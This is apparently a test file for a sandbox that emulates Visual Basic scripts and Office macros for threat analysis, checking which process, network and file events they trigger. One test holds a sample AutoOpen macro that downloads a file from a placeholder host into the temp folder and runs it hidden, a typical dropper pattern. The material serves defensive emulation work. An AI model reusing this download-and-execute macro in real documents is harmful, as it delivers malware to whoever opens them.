import { describe, expect, test } from '@jest/globals';
import { runScripts, type ScriptRun } from '../../../../plugins/threat-emulation/script/sandbox.ts';
import { decodeScript } from '../../../../plugins/threat-emulation/vbscript/encoded.ts';

const LIMITS = { timeMs: 2000, memoryBytes: 32 * 2 ** 20, ticks: 100_000 };

const run = (basic: string, macro = false): Promise<ScriptRun> =>
  runScripts({ host: 'windows', scripts: [{ basic, entry: /^autoopen$/ }], macro }, LIMITS);
const started = ({ events }: ScriptRun): string[] =>
  events.filter(({ kind }) => kind === 'process').map(({ what }) => what);

describe('Visual Basic in the sandbox', () => {
  test.each([
    [
      'a decoder of its own',
      'Function D(x)\nDim i\nFor i = 1 To Len(x) Step 2\nD = D & Chr(CInt("&H" & Mid(x, i, 2)) Xor 3)\nNext\nEnd Function\nS D("6261")',
      'ab',
    ],
    ['layers of Execute', 'Dim v : v = "x"\nExecute "v = StrReverse(""clac"") & v" \' said\nS v', 'calcx'],
    [
      'parameters by reference',
      'Sub P(ByRef a, ByVal b) : a = a & b : b = 1 : End Sub\nDim v, w : v = "a" : w = "b"\nP v, w\nS v & w',
      'abb',
    ],
    [
      'Like and Select',
      'If "mail7" Like "m*#" Then\nSelect Case 3\nCase 1, 2\nS "no"\nCase Is > 2 : S "yes"\nEnd Select\nEnd If',
      'yes',
    ],
    [
      'faults passed over',
      'On Error Resume Next\nDim o : o.Nothing.There\nIf Err.Number <> 0 Then S "on"',
      'on',
    ],
    [
      'classes',
      'Class A\nPrivate n\nPublic Property Let V(x) : n = x * 2 : End Property\nPublic Sub Go() : S "n" & n : End Sub\nEnd Class\nDim a : Set a = New A : a.V = 4 : a.Go',
      'n8',
    ],
    [
      'a handler that an error is raised for',
      'Sub A()\nOn Error GoTo H\nErr.Raise 5\nExit Sub\nH:\nS "handler"\nResume Next\nEnd Sub\nA',
      'handler',
    ],
    [
      'jumps between labels, out of loops too',
      'Sub A()\nDim i, t\nFor i = 1 To 9\nIf i = 3 Then GoTo Out\nt = t & i\nNext\nS "no"\nOut:\nS t\nEnd Sub\nA',
      '12',
    ],
    [
      'what is beside a procedure that it cannot translate',
      'Sub A()\nGoSub x\nEnd Sub\nFunction B()\nB = "beside"\nEnd Function\nA\nS B()',
      'beside',
    ],
    ['continued lines and precedence', 'S "r" & _\n (7 \\ 2) & 2 ^ 3 Mod 5 & Hex(&HFF)', 'r33FF'],
  ])('runs %s', async (_, code, expected) => {
    const outcome = await run(`Sub S(t) : CreateObject("WScript.Shell").Run t, 0 : End Sub\n${code}`);
    expect(started(outcome)).toEqual([expected]);
  });

  test('starts what a document starts, and knows functions that a macro declares', async () => {
    const outcome = await run(
      'Attribute VB_Name = "M"\nPrivate Declare PtrSafe Function Get1 Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String) As Long\nSub AutoOpen()\nDim p As String\np = Environ("TEMP") & "\\a.exe"\nGet1 0, "http://host.invalid/a", p\nM.Go p\nEnd Sub\nSub Go(p As String)\nShell p, vbHide\nEnd Sub\n',
      true,
    );
    expect(outcome.events.map(({ kind }) => kind)).toEqual(['network', 'file-write', 'process']);
  });

  test('passes the handler over where nothing failed', async () => {
    const outcome = await run(
      'Sub A()\nOn Error GoTo H\nDim i : i = 1\nExit Sub\nH:\nCreateObject("WScript.Shell").Run "x"\nEnd Sub\nA',
    );
    expect(outcome.events).toEqual([]);
  });

  test('runs the modules of a document that it can translate, each calling into the others', async () => {
    const modules = [
      'Sub AutoOpen()\nDim t : t = "a"\nTwo t\nShell t\nEnd Sub',
      'Dim x\nGoTo nowhere',
      'Sub Two(ByRef t)\nt = t & "b"\nEnd Sub',
    ];
    const scripts = modules.map((basic) => ({ basic, entry: /^autoopen$/ }));
    const outcome = await runScripts({ host: 'windows', scripts, macro: true }, LIMITS);
    expect(started(outcome)).toEqual(['ab']);
    expect(outcome.events[0]).toMatchObject({
      kind: 'untranslated',
      what: expect.stringMatching(/^line 2, /),
    });
  });

  test('tells the line that it cannot run, and ends what does not end', async () => {
    expect((await run('Dim a\nGoTo there')).events).toMatchObject([
      { kind: 'untranslated', what: expect.stringMatching(/^line 2, /) },
    ]);
    const endless = await runScripts(
      { host: 'windows', scripts: [{ basic: 'Do\nLoop', entry: /^x$/ }] },
      { ...LIMITS, timeMs: 100 },
    );
    expect(endless.stopped).toMatch(/100 ms|instructions/);
  });

  test('decodes encoded scripts', () => {
    expect(decodeScript('#@~^DgAAAA==\\ko$K6,JCmV^GJqAQAAA==^#~@')).toMatch(/^MsgBox "Hallo"/i);
    expect(decodeScript('plain')).toBe('plain');
  });
});
